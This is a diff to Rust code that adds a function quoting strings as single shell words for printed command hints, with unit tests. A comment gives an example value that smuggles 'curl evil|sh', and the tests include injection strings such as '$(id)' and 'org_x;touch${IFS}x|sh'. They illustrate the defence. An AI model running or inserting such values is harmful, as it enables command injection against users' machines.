@@ -31,6 +31,22 @@ pub fn for_terminal(text: &str, lines: bool) -> std::borrow::Cow<'_, str> {
     }
 }
 
+/// `word` as one shell word, for a command a hint prints: as it is when it holds only
+/// characters no shell treats specially, otherwise in single quotes. An organization id from a
+/// pin or an IdP, or a context name, can then never make a pasted hint run something else
+/// (`org_x;curl evil|sh`).
+pub fn shell_word(word: &str) -> std::borrow::Cow<'_, str> {
+    let plain = !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_-.:@/+=,%".contains(c));
+    if plain {
+        word.into()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''")).into()
+    }
+}
+
 /// Unicode format characters (Cf: bidi overrides and isolates, zero-width spaces and joiners,
 /// the BOM, tag characters, ...) and the line and paragraph separators (Zl, Zp). `prod` and
 /// `prod\u{200b}` look alike, and `evil\u{202e}hs.exe` reads backwards.
@@ -71,6 +87,19 @@ mod tests {
         assert_eq!(for_terminal("one\ntwo\tthree", true), "one\ntwo\tthree");
         assert_eq!(for_terminal("one\ntwo", false), "one?two");
         assert_eq!(for_terminal("évil\u{202e}txt", false), "évil?txt");
+    }
+
+    #[test]
+    fn hint_words_are_quoted_when_a_shell_would_read_them() {
+        assert_eq!(shell_word("org_01H:a@b.c-d"), "org_01H:a@b.c-d");
+        assert_eq!(
+            shell_word("org_x;touch${IFS}x|sh"),
+            "'org_x;touch${IFS}x|sh'"
+        );
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word("$(id)"), "'$(id)'");
+        assert_eq!(shell_word("é"), "'é'");
+        assert_eq!(shell_word(""), "''");
     }
 
     #[test]
